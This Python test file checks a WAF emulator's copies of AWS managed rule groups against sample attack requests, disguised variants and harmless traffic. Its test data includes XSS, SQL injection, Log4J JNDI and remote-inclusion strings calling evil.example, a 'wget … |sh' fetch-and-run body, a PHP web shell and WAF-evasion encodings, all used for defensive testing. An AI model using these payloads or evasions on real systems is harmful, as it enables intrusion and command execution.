"""The managed groups: names, what each rule stops, what none of them stops, and what there is not."""

from base64 import b64encode
from functools import cache

import pytest
from msgspec import structs

from masugata.engines.waf.addresses import AddressSet
from masugata.engines.waf.capacity import capacity
from masugata.engines.waf.decision import Decision
from masugata.engines.waf.errors import RulesetError
from masugata.engines.waf.managed import catalogue, default_groups, managed_groups
from masugata.engines.waf.plan import compile_plan
from masugata.engines.waf.request import WebRequest
from web_acls import NOW, Kept, World, group_rule, managed_group, ruleset

GROUPS = managed_groups()
NAMES = sorted(name for _, name in catalogue(GROUPS))
KEPT = Kept()
BROWSER = b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"


def plan(*names, **more):
    """A web ACL of these groups."""
    rules = [group_rule(name, n, managed_group(name, **more)) for n, name in enumerate(names)]
    return compile_plan(ruleset(*rules, body_limit=65_536), managed=GROUPS, databases=KEPT)


@cache
def plan_of(name):
    """A web ACL of one group, compiled once."""
    return plan(name)


def sent(path="/", query="", body=b"", headers=(), method=b"GET", agent=BROWSER) -> WebRequest:
    """A request as a browser would send it, but for what is said."""
    own = ((b"host", b"shop.example"), *(((b"user-agent", agent),) if agent is not None else ()))
    kind = ((b"content-type", b"application/x-www-form-urlencoded"),) if body else ()
    given = {name for name, _ in headers}
    return WebRequest(
        method=method,
        uri_path=path.encode(),
        query_string=query.encode(),
        headers=(*(pair for pair in (*own, *kind) if pair[0] not in given), *headers),
        body=body,
        body_size=len(body),
    )


def decided(group: str, request: WebRequest) -> Decision:
    """What a web ACL of one group says."""
    return plan_of(group).evaluate(request, World().environment, NOW)


XSS = "<script>alert(document.domain)</script>"
SQLI = "' UNION SELECT login, password FROM users-- "
SHELL = ";cat /etc/passwd"
JNDI = "${jndi:ldap://evil.example/a}"
JAVA = '(java.lang.Runtime).getRuntime().exec("id")'
PHP = "<?php system($_GET['c']); ?>"
CASES = [
    ("Common", "NoUserAgent_Header", sent(agent=None)),
    ("Common", "NoUserAgent_Header", sent(agent=b"")),
    ("Common", "BadBots_Header", sent(agent=b"sqlmap/1.8#stable (https://sqlmap.org)")),
    ("Common", "SizeRestrictions_QueryString", sent(query="q=" + "a" * 2_047)),
    ("Common", "SizeRestrictions_Cookie_Header", sent(headers=((b"cookie", b"a=" + b"b" * 10_239),))),
    ("Common", "SizeRestrictions_Body", sent(body=b"a=" + b"b" * 8_191, method=b"POST")),
    ("Common", "SizeRestrictions_URIPath", sent("/" + "a" * 1_024)),
    ("Common", "EC2MetaDataSSRF_Body", sent(body=b"u=http://169.254.169.254/latest/meta-data/")),
    ("Common", "EC2MetaDataSSRF_Cookie", sent(headers=((b"cookie", b"u=http://169.254.169.254/"),))),
    ("Common", "EC2MetaDataSSRF_QueryArguments", sent(query="u=http%3A%2F%2F169.254.169.254%2Flatest")),
    ("Common", "GenericLFI_QueryArguments", sent(query="f=../../../../../etc/shadow")),
    ("Common", "GenericLFI_URIPath", sent("/static/..%2f..%2f..%2fsecret")),
    ("Common", "GenericLFI_Body", sent(body=b"f=..%2F..%2F..%2F..%2F..%2Fetc%2Fshadow")),
    ("Common", "RestrictedExtensions_URIPath", sent("/backup/shop.sql")),
    ("Common", "GenericRFI_QueryArguments", sent(query="page=http://evil.example/shell.txt?")),
    ("Common", "GenericRFI_Body", sent(body=b"page=gopher://127.0.0.1:6379/_x")),
    ("Common", "CrossSiteScripting_Cookie", sent(headers=((b"cookie", f"a={XSS}".encode()),))),
    ("Common", "CrossSiteScripting_Cookie", sent(headers=((b"referer", XSS.encode()),))),
    ("Common", "CrossSiteScripting_QueryArguments", sent(query=f"q={XSS}")),
    ("Common", "CrossSiteScripting_Body", sent(body=f"q={XSS}".encode())),
    ("Common", "CrossSiteScripting_URIPath", sent("/%3Cscript%3Ealert(1)%3C/script%3E")),
    ("AdminProtection", "AdminProtection_URIPath", sent("/phpmyadmin/index.php")),
    ("KnownBadInputs", "JavaDeserializationRCE_Header", sent(headers=((b"x-a", JAVA.encode()),))),
    ("KnownBadInputs", "JavaDeserializationRCE_Body", sent(body=f"a={JAVA}".encode())),
    ("KnownBadInputs", "JavaDeserializationRCE_QueryString", sent(query=f"a={JAVA}")),
    ("KnownBadInputs", "Host_Localhost_Header", sent(headers=((b"host", b"LOCALHOST:8080"),))),
    ("KnownBadInputs", "Host_Localhost_Header", sent(headers=((b"host", b"127.0.0.1"),))),
    ("KnownBadInputs", "Propfind_Method", sent(method=b"PROPFIND")),
    ("KnownBadInputs", "ExploitablePaths_URIPath", sent("/.git/config")),
    ("KnownBadInputs", "Log4JRCE_Header", sent(headers=((b"x-api-version", JNDI.encode()),))),
    ("KnownBadInputs", "Log4JRCE_QueryString", sent(query=f"q={JNDI}")),
    ("KnownBadInputs", "Log4JRCE_Body", sent(body=f"q={JNDI}".encode())),
    ("KnownBadInputs", "Log4JRCE_URIPath", sent("/$%7Bjndi:ldap://evil.example/a%7D")),
    ("SQLi", "SQLi_QueryArguments", sent(query=f"id=1{SQLI}")),
    ("SQLi", "SQLi_Body", sent(body=f"id=1{SQLI}".encode())),
    ("SQLi", "SQLiExtendedPatterns_Body", sent(body=b"user[$ne]=x&password[$gt]=")),
    ("SQLi", "SQLiExtendedPatterns_Header", sent(headers=((b"x-id", f"1{SQLI}".encode()),))),
    ("Linux", "LFI_URIPath", sent("/read/%2e%2e/%2e%2e/proc/self/environ")),
    ("Linux", "LFI_QueryString", sent(query="f=/proc/version")),
    ("Linux", "LFI_Header", sent(headers=((b"x-file", b"../../../../etc/passwd"),))),
    ("Unix", "UNIXShellCommandsVariables_QueryString", sent(query=f"h={SHELL}")),
    (
        "Unix",
        "UNIXShellCommandsVariables_Body",
        sent(body=b"h=%3Bwget+http%3A%2F%2Fevil.example%2Fx+-O-%7Csh"),
    ),
    ("Unix", "UNIXShellCommandsVariables_Header", sent(headers=((b"x-h", b"() { :; }; /bin/id"),))),
    ("Windows", "WindowsShellCommands_QueryArguments", sent(query="h=%26%26net+user+evil+/add")),
    ("Windows", "WindowsShellCommands_Body", sent(body=b"h=%7C%7Ccmd.exe+/c+dir")),
    ("Windows", "PowerShellCommands_QueryArguments", sent(query="h=Invoke-Expression+$x")),
    ("PHP", "PHPHighRiskMethodsVariables_QueryString", sent(query=f"c={PHP}")),
    ("PHP", "PHPHighRiskMethodsVariables_Body", sent(body=f"c={PHP}".encode())),
    ("PHP", "PHPHighRiskMethodsVariables_Header", sent(headers=((b"x-c", PHP.encode()),))),
    ("WordPress", "WordPressExploitablePaths_URIPATH", sent("/xmlrpc.php")),
    ("WordPress", "WordPressExploitableCommands_QUERYSTRING", sent(query="do-reset-wordpress=1")),
]
UNION = b"1' union select login, password from users-- "
CDATA = b"<a>1' un<![CDATA[ion sele]]>ct login, pass<!-- -->word fr<![CDATA[om]]> users-- </a>"
EBCDIC = "".join(f"%{byte:02X}" for byte in UNION.decode().encode("cp037"))
DISGUISED = [
    # Arguments that applications make one of (OWASP, "Testing for HTTP Parameter Pollution").
    ("SQLi", sent(query="id=1+union/*&id=*/select/*&id=*/login,password/*&id=*/from+users--")),
    ("SQLi", sent(body=b"id=1+union/*&id=*/select/*&id=*/login,password/*&id=*/from+users--")),
    # Quoted cookies of RFC 2109, which Java and Python still read, and several headers as one.
    ("SQLi", sent(headers=((b"cookie", b'$Version=1; id="' + UNION.replace(b"e", rb"\e") + b'"'),))),
    ("SQLi", sent(headers=((b"cookie", b'id="' + b"".join(b"\\%03o" % byte for byte in UNION) + b'"'),))),
    ("SQLi", sent(headers=((b"cookie", b"id=1' union/*"), (b"cookie", b"*/select pw from users-- ")))),
    ("SQLi", sent(headers=((b"authorization", b"Basic " + b64encode(UNION + b":x")),))),
    # Escapes in the charset that the body names, as ASP.NET reads them.
    ("SQLi", sent(body=f"%81={EBCDIC}".encode(), headers=((b"content-type", b"text/x; charset=ibm037"),))),
    ("SQLi", sent(query=f"a={EBCDIC}", headers=((b"content-type", b"text/x; charset=ibm037"),))),
    ("SQLi", sent(body=CDATA, headers=((b"content-type", b"application/xml"),))),
    # Segments that servers drop or cut off before they look a path up.
    ("KnownBadInputs", sent("/actuator//env")),
    ("KnownBadInputs", sent("/actuator/./env")),
    ("KnownBadInputs", sent("/actuator;a=b/env;c")),
    ("KnownBadInputs", sent("/vendor%2f%2fphpunit/src")),
    ("KnownBadInputs", sent("/web-inf;/web.xml")),
    ("AdminProtection", sent("/manager;/html")),
    # Ends of names that Windows does not look at (CWE-42, CWE-46, CWE-69).
    ("Common", sent("/backup/shop.sql%20")),
    ("Common", sent("/backup/shop.sql.")),
    ("Common", sent("/backup/shop.sql::$DATA")),
]
HARMLESS = [
    sent("/a//b/./c;v=1/d", "tag=red&tag=union&tag=select", headers=((b"cookie", rb'a="1\"2"; b="x;y"'),)),
    sent("/", headers=((b"authorization", b"Basic " + b64encode(b"Aladdin:open sesame")),)),
    sent("/", body=b"<a>1<![CDATA[<]]>2</a>", headers=((b"content-type", b"text/xml; charset=utf-16"),)),
    sent("/shop/socks", "q=O%27Brien&sort=price&page=2"),
    sent("/search", "q=select+a+dress+from+the+union+of+styles"),
    sent(
        "/profile",
        body=b"name=Mary+O%27Hara&about=I+like+cats+%26+dogs%3B+ls+is+short+for+list",
        method=b"POST",
    ),
    sent("/cms", body=b"html=%3Cp+class%3D%22a%22%3E%3Cb%3EHello%3C%2Fb%3E%3C%2Fp%3E", method=b"POST"),
    sent("/login", "next=https%3A%2F%2Fshop.example%2Faccount%3Ftab%3D1"),
    sent("/%E3%81%93%E3%82%93", "q=%E6%97%A5%E6%9C%AC%E8%AA%9E"),
]


@pytest.mark.parametrize(("group", "label", "request_"), CASES)
def test_each_rule(group, label, request_) -> None:
    """An attack that the rule is named after is refused by the group, under AWS's label."""
    found = decided(f"AWSManagedRules{group}RuleSet", request_)
    assert found.action == "BLOCK"
    assert found.labels[-1].rpartition(":")[2] == label
    assert found.labels[-1].startswith("awswaf:managed:aws:")


@pytest.mark.parametrize(("group", "request_"), DISGUISED)
def test_no_disguise(group, request_) -> None:
    """What an application makes of a request is found, not only what the request says."""
    assert decided(f"AWSManagedRules{group}RuleSet", request_).action == "BLOCK"


@pytest.mark.parametrize("request_", HARMLESS)
def test_harmless_requests(request_) -> None:
    """What people send passes all groups."""
    for name in NAMES:
        if name == "AWSManagedRulesBotControlRuleSet":
            continue
        found = decided(name, request_)
        assert found.action == "ALLOW", (name, found)


def test_sizes_at_their_limits() -> None:
    """Exactly as large as AWS says is not too large."""
    for request in (
        sent("/" + "a" * 1_023),
        sent(query="q=" + "a" * 2_046),
        sent(body=b"a=" + b"b" * 8_190, method=b"POST"),
    ):
        assert decided("AWSManagedRulesCommonRuleSet", request).action == "ALLOW"


@pytest.mark.parametrize("name", NAMES)
def test_names_are_unique_and_overridable(name) -> None:
    """No two rules share a name, all have labels, and an override of any of them compiles."""
    group = GROUPS["AWS", name, None]
    names = [rule.name for rule in group.rules]
    assert len(set(names)) == len(names)
    shown = [rule.name for rule in group.rules if not rule.internal]
    assert all(0 < len(one) <= 128 for one in shown)
    assert all(rule.labels for rule in group.rules)
    plan(name, RuleActionOverrides=[{"Name": one, "ActionToUse": {"Count": {}}} for one in shown[:100]])


@pytest.mark.parametrize("name", NAMES)
def test_static_versions(name) -> None:
    """A version that AWS has had can be pinned, and another one is an error that names it."""
    group = GROUPS["AWS", name, None]
    assert group.version in (*group.static_versions, "")
    for version in group.static_versions:
        assert GROUPS["AWS", name, version].version == version
    with pytest.raises(RulesetError, match=r"in version `Version_9\.9`"):
        plan(name, Version="Version_9.9")


@pytest.mark.parametrize(
    "name", ["AWSManagedRulesATPRuleSet", "AWSManagedRulesACFPRuleSet", "AWSManagedRulesAntiDDoSRuleSet"]
)
def test_groups_that_there_are_not(name) -> None:
    """A group that is not built is an error that says why, when it is compiled and when it is counted."""
    with pytest.raises(RulesetError, match=f"`{name}` is not available: "):
        plan(name)
    with pytest.raises(RulesetError, match=f"`{name}` is not available: "):
        capacity(ruleset(group_rule("r", 0, managed_group(name))).web_acl.rules, managed=GROUPS)
    assert ("AWS", name) not in catalogue(GROUPS)


def test_the_default_groups_only_count_sizes() -> None:
    """A large upload, and a server that is tried out on the machine itself, pass; attacks do not."""
    asked = ruleset(body_limit=65_536)
    acl = structs.replace(asked.web_acl, rules=default_groups())
    found = compile_plan(structs.replace(asked, web_acl=acl), managed=GROUPS, databases=KEPT)
    large = sent(body=b"a=" + b"b" * 60_000, method=b"POST", headers=((b"host", b"localhost:8080"),))
    decision = found.evaluate(large, World().environment, NOW)
    assert decision.action == "ALLOW"
    assert {match.rule_in_group for match in decision.counted} == {
        "SizeRestrictions_BODY",
        "Host_localhost_HEADER",
    }
    attack = sent(query=f"q={XSS}")
    assert found.evaluate(attack, World().environment, NOW).action == "BLOCK"
    assert capacity(default_groups(), managed=GROUPS) == 700 + 200 + 200 + 200 + 100 + 100 + 200


def test_lists_of_addresses() -> None:
    """The lists that are given decide: two block, the one of floods counts, none refuses nobody."""
    given = {
        "reputation": AddressSet(["198.51.100.0/24"]),
        "ddos": AddressSet(["203.0.113.7/32"]),
        "anonymous": AddressSet(["2001:db8::/32"]),
    }
    groups = managed_groups(given)
    names = ("AWSManagedRulesAmazonIpReputationList", "AWSManagedRulesAnonymousIpList")
    rules = [group_rule(name, n, managed_group(name)) for n, name in enumerate(names)]
    found = compile_plan(ruleset(*rules), managed=groups, databases=KEPT)

    def from_(address):
        request = WebRequest(method=b"GET", uri_path=b"/", source_ip=address)
        return found.evaluate(request, World().environment, NOW)

    assert from_("198.51.100.9").action == "BLOCK"
    assert from_("2001:db8::1").action == "BLOCK"
    assert from_("203.0.113.7").action == "ALLOW"
    assert from_("203.0.113.7").labels[0].endswith("AWSManagedIPDDoSList")
    assert from_("192.0.2.1").labels == ()
